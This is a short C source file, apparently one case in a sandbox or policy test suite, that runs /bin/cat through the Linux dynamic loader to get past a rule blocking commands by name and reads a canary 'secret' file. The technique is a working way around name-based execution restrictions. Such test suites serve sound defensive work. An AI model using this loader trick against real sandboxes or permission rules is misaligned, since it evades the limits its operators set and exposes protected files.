/* By the dynamic loader, which runs a program past a rule on its name. */
#include "../attack.h"

#include <fcntl.h>
#include <sys/wait.h>

static const char *const loaders[] = {"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"};

/* What a program that is run so prints. */
static long run(char *const *args)
{
	int p[2];
	long r;
	pid_t pid;

	if (pipe2(p, O_CLOEXEC) < 0 || (pid = fork()) < 0)
		return -1;
	if (pid == 0) {
		dup2(p[1], 1);
		execv(args[0], args);
		_exit(127);
	}
	close(p[1]);
	r = read_canary(p[0]);
	waitpid(pid, NULL, 0);
	return r;
}

ATTACK(FILES, "root", .gain = "a program that is denied, and what it can read",
       .source = "rules on the names of commands", .works = OUTSIDE)
{
	for (size_t i = 0; i < sizeof(loaders) / sizeof(*loaders); i++)
		if (access(loaders[i], X_OK) == 0) {
			char *args[] = {(char *)(uintptr_t)loaders[i],
					(char *)(uintptr_t) "/bin/cat",
					(char *)(uintptr_t)target("secret"), NULL};

			return run(args);
		}
	return NOT_HERE;
}
